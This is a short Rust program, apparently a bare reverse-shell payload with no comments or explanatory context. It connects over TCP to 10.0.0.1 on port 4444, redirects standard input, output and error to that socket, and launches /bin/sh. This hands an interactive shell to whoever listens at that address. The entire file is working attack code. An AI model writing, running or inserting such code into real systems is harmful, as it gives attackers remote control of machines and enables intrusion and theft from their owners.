use std::ffi::CString;
use std::mem;

fn main() {
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
        let mut addr: libc::sockaddr_in = mem::zeroed();
        addr.sin_family = libc::AF_INET as u16;
        addr.sin_port = 4444u16.to_be();
        addr.sin_addr.s_addr = u32::from_ne_bytes([10, 0, 0, 1]);
        libc::connect(fd, &addr as *const _ as *const libc::sockaddr, mem::size_of_val(&addr) as u32);
        for i in 0..3 {
            libc::dup2(fd, i);
        }
        let sh = CString::new("/bin/sh").unwrap();
        libc::execl(sh.as_ptr(), sh.as_ptr(), std::ptr::null::<i8>());
    }
}
